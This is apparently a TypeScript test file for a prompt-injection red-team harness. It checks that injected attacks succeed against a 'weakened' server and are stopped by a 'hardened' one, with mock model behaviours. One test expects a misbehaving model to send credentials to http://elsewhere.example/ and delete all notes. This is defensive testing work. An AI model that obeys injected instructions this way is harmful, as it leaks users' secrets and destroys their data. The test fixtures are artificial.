import { afterEach, describe, expect, it } from 'vitest'
import { attacks } from '../attacks/catalogue.ts'
import { type AttackOutcome, notObeyed, runAttack, type Side } from '../run-attack.ts'
import type { Instruction } from '../scene/orders.ts'
import { noAnswer } from '../scene/wire.ts'
import { type Behaviour, type ModelServer, startModelServer } from '../testing/model-server.test-fixture.ts'
import { createModelMind, ModelFailed, type ModelOptions } from './model-mind.ts'

let server: ModelServer | undefined

afterEach(() => server?.close())

async function seat(behaviour: Behaviour, options: Partial<ModelOptions> = {}) {
  server = await startModelServer(behaviour)
  return { server, mind: createModelMind({ url: server.url, name: 'written', ...options }) }
}

async function play(id: string, behaviour: Behaviour, against: Side): Promise<AttackOutcome> {
  const attack = attacks.find((each) => each.id === id)
  if (attack === undefined) throw new RangeError(`there is no attack ${id}`)
  const variants = attack.variants.filter(({ injected }) => injected === true)
  return runAttack({ ...attack, variants }, { against, mind: (await seat(behaviour)).mind })
}

describe('a model that does what it reads', () => {
  const injected = attacks.filter(({ variants }) => variants.some((variant) => variant.injected === true))

  it('has attacks to read along in', () => {
    expect(injected.map(({ id }) => id)).toEqual(['T1', 'T2', 'T3', 'T7', 'X15'])
  })

  it.each(injected.map(({ id }) => id))('has %s land, and is stopped where nothing is missing', async (id) => {
    expect(await play(id, 'obeys', 'weakened')).toMatchObject({ landed: true })
    // It never sees a credential.
    expect(server?.requests.length).toBeGreaterThan(2)
    expect(server?.requests.filter(({ body }) => /eyJ|DPoP|Bearer/.test(body))).toEqual([])
    expect(await play(id, 'obeys', 'hardened')).toMatchObject({ landed: false, stoppedAsExpected: true })
  })
})

describe('a model that only summarises', () => {
  it('has proven nothing, on either server', async () => {
    for (const side of ['weakened', 'hardened'] as const) {
      const { variants } = await play('T2', 'summarises', side)
      expect(variants).toMatchObject([{ landed: false, stoppedAsExpected: false, code: notObeyed }])
      expect(variants[0]?.exchanges.at(-1)).toMatchObject({ answer: { status: 200 } })
    }
  })
})

describe('a model that is no good', () => {
  const act = async () => noAnswer('none')

  it('ends when it has spoken often enough', async () => {
    const { server: asked, mind } = await seat('never_ends', { steps: 3 })
    await mind(act)
    expect(asked.requests).toHaveLength(3)
  })

  it('may say so much at a time', async () => {
    const { server: asked, mind } = await seat('summarises', { tokens: 77 })
    await mind(act)
    expect(asked.requests[0]?.body).toContain('"max_tokens":77')
  })

  it('gets nothing to leave the stage', async () => {
    const { variants } = await play('T2', 'wanders', 'weakened')
    expect(variants).toMatchObject([{ code: notObeyed }])
    expect(variants[0]?.exchanges.filter(({ to }) => to === 'elsewhere')).toEqual([])
  })

  it('has its mistakes told to it, and to nobody else', async () => {
    const acts: Instruction[] = []
    const { mind } = await seat('wanders')
    await mind(async (instruction) => {
      acts.push(instruction)
      return noAnswer('none')
    })
    expect(acts).toEqual([
      { do: 'call', tool: 'read_notes', arguments: {} },
      { do: 'send_credentials', to: 'http://elsewhere.example/' },
      { do: 'call', tool: 'delete_note', arguments: { note_id: 'all of them' } },
    ])
  })

  it.each(['fails', 'babbles'] as const)('that %s ends the attack, asked once', async (behaviour) => {
    const { server: asked, mind } = await seat(behaviour, { apiKey: 'the-key' })
    const failure = await mind(act).catch((error: unknown) => error)
    expect(failure).toBeInstanceOf(ModelFailed)
    expect(String(failure)).not.toContain('the-key')
    expect(asked.requests).toEqual([expect.objectContaining({ authorization: 'Bearer the-key' })])
  })

  it('that is silent ends it too', async () => {
    const { mind } = await seat('is_silent', { seconds: 0.1 })
    await expect(mind(act)).rejects.toThrow(ModelFailed)
  })

  it('that is not there is a failure of the attack, and no defence', async () => {
    const mind = createModelMind({ url: 'http://127.0.0.1:9/v1', name: 'none' })
    const [attack] = attacks.filter(({ id }) => id === 'T2')
    if (attack === undefined) throw new RangeError('there is no T2')
    expect(await runAttack(attack, { against: 'hardened', mind })).toMatchObject({
      stoppedAsExpected: false,
      variants: [{ failure: expect.stringContaining('http://127.0.0.1:9/v1 failed') }],
    })
  })
})
